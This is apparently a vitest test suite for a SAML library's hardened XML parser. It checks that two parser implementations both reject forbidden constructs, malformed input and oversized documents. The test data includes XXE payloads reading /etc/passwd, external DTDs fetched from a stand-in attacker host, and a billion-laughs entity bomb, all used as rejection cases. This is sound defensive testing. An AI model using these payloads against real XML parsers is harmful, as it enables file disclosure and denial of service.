// Every parser rule, limit and message, run against both lanes: the strict parser lane (the default)
// and the xmldom lane it is differentially tested against. Both must refuse alike.
import { describe, expect, it } from 'vitest';
import type { Element } from '@xmldom/xmldom';
import { SamlGuardError, type ErrorCode } from '../../src/errors.js';
import { DEFAULT_PARSE_LIMITS, parseXml as parseWithLaneDefault, resolveLimits, type ParseLimits, type ParsedXml } from '../../src/xml/parse.js';
import { parseWithXmldom } from '../../src/xml/parse-xmldom.js';
import { expectCode } from '../dsig/helpers.js';


type Parse = (input: string | Uint8Array, limits?: ParseLimits) => ParsedXml;

for (const [lane, parseXml] of [
  ['parser lane', parseWithLaneDefault],
  ['xmldom lane', (input, limits) => parseWithXmldom(input, resolveLimits(limits))],
] as Array<[string, Parse]>) {

  const parseCode = (input: string | Uint8Array, code: ErrorCode, limits?: ParseLimits): SamlGuardError =>
    expectCode(() => parseXml(input, limits), code);

  const utf8 = (s: string): Uint8Array => new TextEncoder().encode(s);

  const nested = (depth: number): string => '<a>'.repeat(depth) + '</a>'.repeat(depth);

  describe(`${lane}: baseline`, () => {
    it('parses a well-formed document and returns document, root and ID index', () => {
      const p = parseXml('<?xml version="1.0" encoding="UTF-8"?><r xmlns="urn:x" ID="_1"><c Id="_2"/><d xml:id="_3">t</d></r>');
      expect(p.root.localName).toBe('r');
      expect(p.document.documentElement).toBe(p.root);
      expect([...p.ids.keys()].sort()).toEqual(['_1', '_2', '_3']);
    });

    it('accepts the XML declaration with utf-8 / UTF8 / standalone, a UTF-8 BOM (string and bytes), and no declaration', () => {
      expect(parseXml("<?xml version='1.0' encoding='utf-8' standalone='yes'?><r/>").root.localName).toBe('r');
      expect(parseXml('<?xml version="1.0" encoding="UTF8"?><r/>').root.localName).toBe('r');
      expect(parseXml('\uFEFF<r/>').root.localName).toBe('r');
      expect(parseXml(new Uint8Array([0xef, 0xbb, 0xbf, ...utf8('<r>é</r>')])).root.textContent).toBe('é');
      expect(parseXml('<r/>').root.localName).toBe('r');
    });

    it("accepts '&', '<' and other markup inside CDATA sections and comments", () => {
      const p = parseXml('<r><!-- a & b <!DOCTYPE x> &foo; <?pi?> --><![CDATA[ & < &bar; <!ENTITY <?php ?> ]]></r>');
      expect(p.root.textContent).toBe(' & < &bar; <!ENTITY <?php ?> ');
    });

    it('accepts the five predefined entities and character references to allowed characters', () => {
      const p = parseXml('<r a="&quot;&apos;">&lt;&gt;&amp;&#x41;&#66;&#x1F600;&#9;</r>');
      expect(p.root.textContent).toBe('<>&AB\u{1F600}\t');
      expect(p.root.getAttribute('a')).toBe('"\'');
    });

    it('allows comments around the root (they are not content)', () => {
      expect(parseXml('<!-- before --><r/><!-- after -->').root.localName).toBe('r');
    });

    it('rejects non-string, non-Uint8Array input with INPUT_MALFORMED', () => {
      expectCode(() => parseXml(42 as unknown as string), 'INPUT_MALFORMED');
    });
  });

  describe(`${lane}: DOCTYPE and entities → XML_FORBIDDEN_CONSTRUCT`, () => {
    it.each([
      ['internal subset with an entity', '<!DOCTYPE r [<!ENTITY e "expanded">]><r>&e;</r>'],
      ['internal subset, entity unused', '<!DOCTYPE r [<!ENTITY e "x">]><r/>'],
      ['external SYSTEM DTD', '<!DOCTYPE r SYSTEM "http://attacker.test/evil.dtd"><r/>'],
      ['external PUBLIC DTD', '<!DOCTYPE r PUBLIC "-//X//Y" "http://attacker.test/evil.dtd"><r/>'],
      ['XXE file entity', '<!DOCTYPE r [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><r>&xxe;</r>'],
      ['parameter entity', '<!DOCTYPE r [<!ENTITY % p SYSTEM "http://attacker.test/p.dtd"> %p;]><r/>'],
      ['bare DOCTYPE', '<!DOCTYPE r><r/>'],
      ['lower-case doctype', '<!doctype r><r/>'],
      ['DOCTYPE after the XML declaration and a comment', '<?xml version="1.0"?><!-- c --><!DOCTYPE r><r/>'],
      ['markup declaration inside the root', '<r><!ENTITY e "x"></r>'],
    ])('%s', (_name, xml) => {
      parseCode(xml, 'XML_FORBIDDEN_CONSTRUCT');
    });

    it('billion laughs is refused before any expansion', () => {
      const lols = ['<!ENTITY lol "lol">'];
      for (let i = 1; i <= 9; i++) lols.push(`<!ENTITY lol${i} "${`&lol${i === 1 ? '' : i - 1};`.repeat(10)}">`);
      const xml = `<?xml version="1.0"?><!DOCTYPE lolz [${lols.join('')}]><lolz>&lol9;</lolz>`;
      const started = performance.now();
      parseCode(xml, 'XML_FORBIDDEN_CONSTRUCT');
      expect(performance.now() - started).toBeLessThan(1000);
    });

    it('an undefined (non-predefined) entity reference is refused', () => {
      parseCode('<r>&foo;</r>', 'XML_FORBIDDEN_CONSTRUCT');
      parseCode('<r a="&nbsp;"/>', 'XML_FORBIDDEN_CONSTRUCT');
    });
  });

  describe(`${lane}: processing instructions → XML_FORBIDDEN_CONSTRUCT`, () => {
    it.each([
      ['PI inside the root', '<r><?php echo 1; ?></r>'],
      ['PI before the root', '<?pi data?><r/>'],
      ['xml-stylesheet after the declaration', '<?xml version="1.0"?><?xml-stylesheet href="x.xsl" type="text/xsl"?><r/>'],
      ['PI after the declaration', '<?xml version="1.0"?><?pi data?><r/>'],
      ['PI after the root', '<r/><?pi data?>'],
      ['PI without data', '<r><?x?></r>'],
      ['PI in a CDATA-looking context outside CDATA', '<r>]]&gt;<?pi x?></r>'],
    ])('%s', (_name, xml) => {
      parseCode(xml, 'XML_FORBIDDEN_CONSTRUCT');
    });

    // Regression: a PI whose target merely starts with "xml" at offset 0 was once reported as a malformed
    // XML declaration (XML_MALFORMED) instead of a refused processing instruction.
    it('a PI whose target starts with "xml" at offset 0 (xml-stylesheet) → XML_FORBIDDEN_CONSTRUCT', () => {
      parseCode('<?xml-stylesheet href="x.xsl" type="text/xsl"?><r/>', 'XML_FORBIDDEN_CONSTRUCT');
    });

    it('an XML declaration anywhere but at offset 0 (or a reserved XML target) is refused like any PI', () => {
      parseCode(' <?xml version="1.0"?><r/>', 'XML_FORBIDDEN_CONSTRUCT');
      parseCode('\n<?xml version="1.0" encoding="ISO-8859-1"?><r/>', 'XML_FORBIDDEN_CONSTRUCT');
      parseCode('<!-- c --><?xml version="1.0"?><r/>', 'XML_FORBIDDEN_CONSTRUCT');
      parseCode('<r><?XML version="1.0"?></r>', 'XML_FORBIDDEN_CONSTRUCT');
      parseCode('<r><?xml version="1.0"?></r>', 'XML_FORBIDDEN_CONSTRUCT');
      parseCode('<?xml version="1.0"?><?xml version="1.0"?><r/>', 'XML_FORBIDDEN_CONSTRUCT');
    });
  });

  describe(`${lane}: encodings → XML_FORBIDDEN_CONSTRUCT`, () => {
    it.each(['ISO-8859-1', 'UTF-16', 'utf-16le', 'windows-1252', 'US-ASCII', 'UTF-7'])('encoding="%s" in the declaration', (enc) => {
      parseCode(`<?xml version="1.0" encoding="${enc}"?><r/>`, 'XML_FORBIDDEN_CONSTRUCT');
      parseCode(utf8(`<?xml version="1.0" encoding="${enc}"?><r/>`), 'XML_FORBIDDEN_CONSTRUCT');
    });

    it('UTF-16 BE/LE and UTF-32 byte-order marks', () => {
      const body = '<r/>';
      const le = new Uint8Array([0xff, 0xfe, ...[...body].flatMap((c) => [c.charCodeAt(0), 0])]);
      const be = new Uint8Array([0xfe, 0xff, ...[...body].flatMap((c) => [0, c.charCodeAt(0)])]);
      const utf32be = new Uint8Array([0, 0, 0xfe, 0xff, ...[...body].flatMap((c) => [0, 0, 0, c.charCodeAt(0)])]);
      parseCode(le, 'XML_FORBIDDEN_CONSTRUCT');
      parseCode(be, 'XML_FORBIDDEN_CONSTRUCT');
      parseCode(utf32be, 'XML_FORBIDDEN_CONSTRUCT');
    });

    it('bytes that are not valid UTF-8 are XML_MALFORMED', () => {
      parseCode(new Uint8Array([...utf8('<r>'), 0xc0, 0x80, ...utf8('</r>')]), 'XML_MALFORMED');
      parseCode(new Uint8Array([...utf8('<r>'), 0xff, ...utf8('</r>')]), 'XML_MALFORMED');
    });

    it('a malformed XML declaration is XML_MALFORMED', () => {
      parseCode('<?xml version="2"?><r/>', 'XML_MALFORMED');
      parseCode('<?xml encoding="UTF-8"?><r/>', 'XML_MALFORMED');
    });
  });

  describe(`${lane}: well-formedness → XML_MALFORMED`, () => {
    it.each([
      ['two roots', '<a/><b/>'],
      ['two roots with content', '<a>x</a><a>y</a>'],
      ['text after the root', '<r/>text'],
      ['text before the root', 'text<r/>'],
      ['CDATA outside the root', '<![CDATA[x]]><r/>'],
      ['empty input', ''],
      ['whitespace only', '  \n '],
      ["bare '&' in text", '<r>a & b</r>'],
      ["bare '&' in an attribute", '<r a="a & b"/>'],
      ["'&amp' without ';'", '<r>&amp</r>'],
      ['NUL character', '<r>a\u0000b</r>'],
      ['U+0001', '<r>\u0001</r>'],
      ['U+000B (vertical tab)', '<r>\u000B</r>'],
      ['U+001F', '<r a="\u001F"/>'],
      ['U+FFFE', '<r>\uFFFE</r>'],
      ['lone high surrogate', '<r>\uD800</r>'],
      ['lone low surrogate', '<r>\uDC00x</r>'],
      ['&#0;', '<r>&#0;</r>'],
      ['&#x0;', '<r>&#x0;</r>'],
      ['&#x1; in an attribute', '<r a="&#x1;"/>'],
      ['&#xD800; (surrogate)', '<r>&#xD800;</r>'],
      ['&#xFFFF;', '<r>&#xFFFF;</r>'],
      ['&#x110000; (beyond Unicode)', '<r>&#x110000;</r>'],
      ['unbound element prefix', '<p:r/>'],
      ['unbound attribute prefix', '<r p:a="1"/>'],
      ['xmlns:p="" (prefix undeclaration)', '<r xmlns:p="urn:p"><c xmlns:p=""/></r>'],
      ['xmlns:p="" on the root', '<r xmlns:p=""/>'],
      ['mismatched end tag', '<r></s>'],
      ['unclosed root', '<r>'],
      ['duplicate attribute', '<r a="1" a="2"/>'],
      ["'<' in an attribute value", '<r a="<"/>'],
    ])('%s', (_name, xml) => {
      parseCode(xml, 'XML_MALFORMED');
    });

    it('line ends: CR LF and lone CR become LF (XML 1.0 §2.11)', () => {
      expect(parseXml('<r a="x\r\ny">a\r\nb\rc</r>').root.textContent).toBe('a\nb\nc');
      expect(parseXml('<r>a&#13;b</r>').root.textContent).toBe('a\rb');
    });

    // Regression: @xmldom/xmldom's default normalizeLineEndings applies XML 1.1 end-of-line handling
    // (NEL U+0085, LS U+2028, PS U+2029 → LF). In XML 1.0 they are ordinary characters; folding them made
    // samlguard read "a\u2028b" as "a\nb" (a parser differential) and reject conformant signed content.
    it.each([
      ['U+2028', '\u2028'],
      ['U+2029', '\u2029'],
      ['U+0085', '\u0085'],
    ])('%s in text and attributes is kept as is (XML 1.0 does not treat it as a line end)', (_name, ch) => {
      const p = parseXml(`<r a="x${ch}y">a${ch}b\r${ch}c</r>`);
      expect(p.root.textContent).toBe(`a${ch}b\n${ch}c`);
      expect(p.root.getAttribute('a')).toBe(`x${ch}y`);
    });

    // Regression: these once fell through to the markup-declaration check and were reported as a refused
    // DOCTYPE (XML_FORBIDDEN_CONSTRUCT) — rejected, but with a misleading code and message.
    it.each([
      ['unterminated comment', '<r><!-- x</r>'],
      ['unterminated CDATA section', '<r><![CDATA[ x</r>'],
      ["'<!-' typo", '<r><!- x --></r>'],
    ])('%s → XML_MALFORMED', (_name, xml) => {
      parseCode(xml, 'XML_MALFORMED');
    });

    it('a comment containing "--" is XML_MALFORMED', () => {
      parseCode('<r><!-- a -- b --></r>', 'XML_MALFORMED');
      parseCode('<r><!-- a ---></r>', 'XML_MALFORMED');
    });

    it('an undeclared default namespace (xmlns="") is allowed', () => {
      expect(parseXml('<r xmlns="urn:x"><c xmlns=""/></r>').root.localName).toBe('r');
    });
  });

  describe(`${lane}: limits → XML_LIMIT_EXCEEDED`, () => {
    it('maxBytes counts UTF-8 bytes, for strings and byte arrays', () => {
      const doc = `<r>${'é'.repeat(50)}</r>`; // 57 code units, 107 bytes
      expect(parseXml(doc, { maxBytes: 107 }).root.localName).toBe('r');
      const err = parseCode(doc, 'XML_LIMIT_EXCEEDED', { maxBytes: 106 });
      expect(err.details).toMatchObject({ limit: 'maxBytes', max: 106 });
      parseCode(utf8(doc), 'XML_LIMIT_EXCEEDED', { maxBytes: 106 });
      expect(parseXml(utf8(doc), { maxBytes: 107 }).root.localName).toBe('r');
    });

    it('maxDepth: exactly the limit parses, one more is refused', () => {
      expect(parseXml(nested(5), { maxDepth: 5 }).root.localName).toBe('a');
      const err = parseCode(nested(6), 'XML_LIMIT_EXCEEDED', { maxDepth: 5 });
      expect(err.details).toMatchObject({ limit: 'maxDepth', max: 5 });
    });

    it('maxElements: exactly the limit parses, one more is refused', () => {
      const flat = (n: number) => `<r>${'<c/>'.repeat(n - 1)}</r>`;
      expect(parseXml(flat(10), { maxElements: 10 }).root.localName).toBe('r');
      const err = parseCode(flat(11), 'XML_LIMIT_EXCEEDED', { maxElements: 10 });
      expect(err.details).toMatchObject({ limit: 'maxElements', max: 10 });
    });

    it('defaults: 1 MiB, depth 64, 50 000 elements, 64 attributes, 32 declarations, 64 prefixes in scope', () => {
      expect(DEFAULT_PARSE_LIMITS).toEqual({
        maxBytes: 1024 * 1024,
        maxDepth: 64,
        maxElements: 50_000,
        maxAttributes: 64,
        maxNamespaceDeclarations: 32,
        maxNamespacesInScope: 64,
        maxTotalAttributes: 25_000,
      });

      const sized = (bytes: number) => `<r>${'a'.repeat(bytes - 7)}</r>`;
      expect(parseXml(sized(1024 * 1024)).root.localName).toBe('r');
      parseCode(sized(1024 * 1024 + 1), 'XML_LIMIT_EXCEEDED');
      parseCode(utf8(sized(1024 * 1024 + 1)), 'XML_LIMIT_EXCEEDED');

      expect(parseXml(nested(64)).root.localName).toBe('a');
      parseCode(nested(65), 'XML_LIMIT_EXCEEDED');

      expect(parseXml(`<r>${'<c/>'.repeat(49_999)}</r>`).root.localName).toBe('r');
      parseCode(`<r>${'<c/>'.repeat(50_000)}</r>`, 'XML_LIMIT_EXCEEDED');
    });

    it('deep nesting far beyond the limit fails fast with the limit code', () => {
      const started = performance.now();
      parseCode(nested(100_000), 'XML_LIMIT_EXCEEDED', { maxBytes: 10 * 1024 * 1024 });
      expect(performance.now() - started).toBeLessThan(5000);
    });

    it('invalid limits are CONFIG_INVALID', () => {
      parseCode('<r/>', 'CONFIG_INVALID', { maxDepth: 0 });
      parseCode('<r/>', 'CONFIG_INVALID', { maxBytes: -1 });
      parseCode('<r/>', 'CONFIG_INVALID', { maxElements: 1.5 });
      parseCode('<r/>', 'CONFIG_INVALID', { maxElements: Number.NaN });
    });
  });

  describe(`${lane}: ID index and duplicate IDs`, () => {
    it('maps every ID / Id / xml:id value to its element', () => {
      const p = parseXml('<r ID="root"><a Id="a1"><b xml:id="b1"/></a><c ID="c1" Id="c2"/><d id="lower"/><e xmlns:p="urn:p" p:ID="ns"/></r>');
      const byName = (name: string): Element => p.document.getElementsByTagName(name).item(0)!;
      expect(p.ids.get('root')).toBe(p.root);
      expect(p.ids.get('a1')).toBe(byName('a'));
      expect(p.ids.get('b1')).toBe(byName('b'));
      expect(p.ids.get('c1')).toBe(byName('c'));
      expect(p.ids.get('c2')).toBe(byName('c'));
      // Only unqualified ID/Id and xml:id are IDs: lower-case id and namespaced p:ID are not.
      expect(p.ids.has('lower')).toBe(false);
      expect(p.ids.has('ns')).toBe(false);
      expect(p.ids.size).toBe(5);
    });

    it.each([
      ['ID twice', '<r><a ID="x"/><b ID="x"/></r>'],
      ['ID and Id', '<r><a ID="x"/><b Id="x"/></r>'],
      ['Id and xml:id', '<r><a Id="x"/><b xml:id="x"/></r>'],
      ['xml:id and ID', '<r xml:id="x"><b ID="x"/></r>'],
      ['ancestor and deep descendant', '<r ID="x"><a><b><c ID="x"/></b></a></r>'],
      ['same element, ID and Id', '<r ID="x" Id="x"/>'],
    ])('%s → DUPLICATE_ID', (_name, xml) => {
      parseCode(xml, 'DUPLICATE_ID');
    });

    it('a namespaced p:ID or lower-case id repeating an ID value is not a duplicate (not an ID attribute)', () => {
      expect(parseXml('<r ID="x" xmlns:p="urn:p"><a p:ID="x" id="x"/></r>').ids.get('x')?.localName).toBe('r');
    });
  });

  describe(`${lane}: error messages are bounded`, () => {
    const big = 'x'.repeat(10_000);
    /** Longest run of the 10 KB payload echoed in the message. */
    const echoed = (message: string) => Math.max(0, ...[...message.matchAll(/x+/g)].map((m) => m[0].length));

    it('a 10 KB attribute value is not echoed beyond ~100 characters', () => {
      for (const xml of [`<r ID="${big}"><c ID="${big}"/></r>`, `<r a="${big}></r>`, `<r a="${big}&"/>`, `<r a="${big}\u0001"/>`]) {
        let message = '';
        try {
          parseXml(xml);
        } catch (err) {
          expect(err).toBeInstanceOf(SamlGuardError);
          message = (err as Error).message;
        }
        expect(message).not.toBe('');
        expect(echoed(message)).toBeLessThanOrEqual(100);
        expect(message.length).toBeLessThan(300);
      }
    });

    it.each([
      ['entity name', `<r>&${big};</r>`],
      ['PI target', `<r><?${big} d?></r>`],
      ['encoding name', `<?xml version="1.0" encoding="${big}"?><r/>`],
      ['element name in a mismatched end tag', `<r><${big}></r>`],
      ['text outside the root', `${big}<r/>`],
      ['undeclared prefix', `<${big}:r/>`],
      ['attribute name without value', `<r ${big}/>`],
      ['unclosed element', `<${big}>`],
    ])('%s: message stays short', (_name, xml) => {
      let message = '';
      try {
        parseXml(xml);
      } catch (err) {
        expect(err).toBeInstanceOf(SamlGuardError);
        message = (err as Error).message;
      }
      expect(message).not.toBe('');
      // quote() echoes at most 80 characters; messages relayed from xmldom are cut at 80 too.
      expect(echoed(message)).toBeLessThanOrEqual(100);
      expect(message.length).toBeLessThan(300);
    });

    // Regression: messages relayed from xmldom were once cut at 160 characters, echoing ~150 of input.
    it.each([
      ['element name in a mismatched end tag', `<r><${big}></r>`],
      ['attribute name without value', `<r ${big}/>`],
      ['unclosed element', `<${big}>`],
    ])('%s: echoes at most ~100 characters of input', (_name, xml) => {
      let message = '';
      try {
        parseXml(xml);
      } catch (err) {
        message = (err as Error).message;
      }
      expect(echoed(message)).toBeLessThanOrEqual(100);
    });
  });

  describe(`${lane}: legal characters xmldom only warns about`, () => {
    it('a literal U+FFFD (legal in XML 1.0) is accepted, as is &#xFFFD;', () => {
      expect(parseXml('<r>a\uFFFDb</r>').root.textContent).toBe('a\uFFFDb');
      expect(parseXml('<r>a&#xFFFD;b</r>').root.textContent).toBe('a\uFFFDb');
      expect(parseXml(new TextEncoder().encode('<r>\uFFFD</r>')).root.textContent).toBe('\uFFFD');
    });
  });

  describe(`${lane}: attribute and namespace limits (cost bounded by input size)`, () => {
    it('a start tag far over the limits is refused by the limit it exceeds, whichever comes first', () => {
      const many = (n: number, f: (i: number) => string) => Array.from({ length: n }, (_, i) => f(i)).join(' ');
      expect(parseCode(`<r ${many(500, (i) => `a${i}="1"`)}/>`, 'XML_LIMIT_EXCEEDED').details).toMatchObject({ limit: 'maxAttributes' });
      expect(parseCode(`<r ${many(500, (i) => `xmlns:p${i}="urn:${i}"`)}/>`, 'XML_LIMIT_EXCEEDED').details).toMatchObject({ limit: 'maxNamespaceDeclarations' });
      expect(parseCode(`<r ${many(40, (i) => `xmlns:p${i}="urn:${i}"`)} ${many(70, (i) => `a${i}="1"`)}/>`, 'XML_LIMIT_EXCEEDED').details).toMatchObject({ limit: 'maxNamespaceDeclarations' });
    });

    const attrs = (n: number, make: (i: number) => string): string => Array.from({ length: n }, (_, i) => ' ' + make(i)).join('');

    it('maxAttributes counts plain and prefixed attributes on one element, not namespace declarations', () => {
      expect(parseXml(`<r${attrs(64, (i) => `a${i}="1"`)}/>`).root.attributes.length).toBe(64);
      const err = parseCode(`<r${attrs(65, (i) => `a${i}="1"`)}/>`, 'XML_LIMIT_EXCEEDED');
      expect(err.details).toMatchObject({ limit: 'maxAttributes', max: 64 });
      // Declarations do not count against it …
      expect(parseXml(`<r xmlns:q="urn:q"${attrs(64, (i) => `q:a${i}="1"`)}/>`).root.attributes.length).toBe(65);
      // … and a lower limit applies to prefixed attributes too.
      parseCode(`<r xmlns:q="urn:q" q:a="1" q:b="2" c="3"/>`, 'XML_LIMIT_EXCEEDED', { maxAttributes: 2 });
      // The limit is per element: many elements with a few attributes each are fine.
      expect(parseXml(`<r>${'<c a="1" b="2"/>'.repeat(200)}</r>`, { maxAttributes: 2 }).root.childNodes.length).toBe(200);
    });

    it('maxNamespaceDeclarations bounds the declarations on one element (the default namespace included)', () => {
      expect(parseXml(`<r xmlns="urn:d"${attrs(31, (i) => `xmlns:p${i}="urn:${i}"`)}/>`).root.localName).toBe('r');
      const err = parseCode(`<r xmlns="urn:d"${attrs(32, (i) => `xmlns:p${i}="urn:${i}"`)}/>`, 'XML_LIMIT_EXCEEDED');
      expect(err.details).toMatchObject({ limit: 'maxNamespaceDeclarations', max: 32 });
      expect(err.message).toContain('maxNamespaceDeclarations');
    });

    it('maxNamespacesInScope counts distinct prefixes across ancestors; a redeclaration is not a new one', () => {
      const chain = (n: number, make: (i: number) => string) => Array.from({ length: n }, (_, i) => `<e${make(i)}>`).join('') + Array.from({ length: n }, () => '</e>').join('');
      // 64 distinct prefixes, two per element down 32 levels: the limit exactly.
      expect(parseXml(chain(32, (i) => ` xmlns:a${i}="u" xmlns:b${i}="u"`)).root.localName).toBe('e');
      const err = parseCode(chain(33, (i) => ` xmlns:a${i}="u" xmlns:b${i}="u"`), 'XML_LIMIT_EXCEEDED');
      expect(err.details).toMatchObject({ limit: 'maxNamespacesInScope', max: 64 });
      // The same prefix redeclared at every level stays one prefix in scope.
      expect(parseXml(chain(60, (i) => ` xmlns:p="urn:${i}"`), { maxNamespacesInScope: 1 }).root.localName).toBe('e');
      // Scope ends with the element: siblings each declaring a new prefix never add up.
      expect(parseXml(`<r>${Array.from({ length: 300 }, (_, i) => `<c xmlns:p${i}="u"/>`).join('')}</r>`, { maxNamespacesInScope: 1 }).root.localName).toBe('r');
      parseCode(`<r xmlns:a="u"><c xmlns:b="u"/></r>`, 'XML_LIMIT_EXCEEDED', { maxNamespacesInScope: 1 });
    });

    it('maxTotalAttributes bounds attributes in the whole document, declarations included', () => {
      // 25 000 exactly: 2 500 elements with ten attributes each (the root carries none).
      const doc = (n: number, unit: string) => `<r>${unit.repeat(n)}</r>`;
      const ten = `<c${attrs(10, (i) => `a${i}="1"`)}/>`;
      expect(parseXml(doc(2_500, ten)).root.childNodes.length).toBe(2_500);
      const err = parseCode(doc(2_500, ten).replace('<r>', '<r a="1">'), 'XML_LIMIT_EXCEEDED');
      expect(err.details).toMatchObject({ limit: 'maxTotalAttributes', max: 25_000 });
      expect(err.message).toContain('maxTotalAttributes');
      // Declarations count too, and so does the root.
      parseCode(`<r xmlns:p="urn:p" a="1"><c p:b="1"/></r>`, 'XML_LIMIT_EXCEEDED', { maxTotalAttributes: 2 });
      expect(parseXml(`<r xmlns:p="urn:p" a="1"><c p:b="1"/></r>`, { maxTotalAttributes: 3 }).root.localName).toBe('r');
      parseCode(`<r xmlns="urn:d"><c xmlns="urn:e"/></r>`, 'XML_LIMIT_EXCEEDED', { maxTotalAttributes: 1 });
      // The count is of the whole document, not of one element or one level.
      parseCode(doc(3, '<c a="1"/>'), 'XML_LIMIT_EXCEEDED', { maxTotalAttributes: 2 });
      expect(parseXml(doc(2, '<c a="1"/>'), { maxTotalAttributes: 2 }).root.localName).toBe('r');
    });

    it('refuses zero, negative and non-integer values for the new limits', () => {
      for (const limit of ['maxAttributes', 'maxNamespaceDeclarations', 'maxNamespacesInScope', 'maxTotalAttributes']) {
        for (const bad of [0, -1, 1.5, Number.NaN]) parseCode('<r/>', 'CONFIG_INVALID', { [limit]: bad });
      }
    });
  });

  describe(`${lane}: character references at the exact bounds of XML 1.0 Char`, () => {
    it.each(['#x9', '#xA', '#xD', '#x20', '#xD7FF', '#xE000', '#xFFFD', '#x10000', '#x10FFFF', '#32', '#55295', '#57344', '#1114111'])('&%s; is a character XML allows', (ref) => {
      expect(parseXml(`<r>&${ref};</r>`).root.localName).toBe('r');
    });
    it.each(['#x0', '#x8', '#x1F', '#xD800', '#xDFFF', '#xFFFE', '#xFFFF', '#x110000', '#31', '#55296', '#57343', '#1114112'])('&%s; names a character XML forbids → XML_MALFORMED', (ref) => {
      parseCode(`<r>&${ref};</r>`, 'XML_MALFORMED');
    });
  });

}
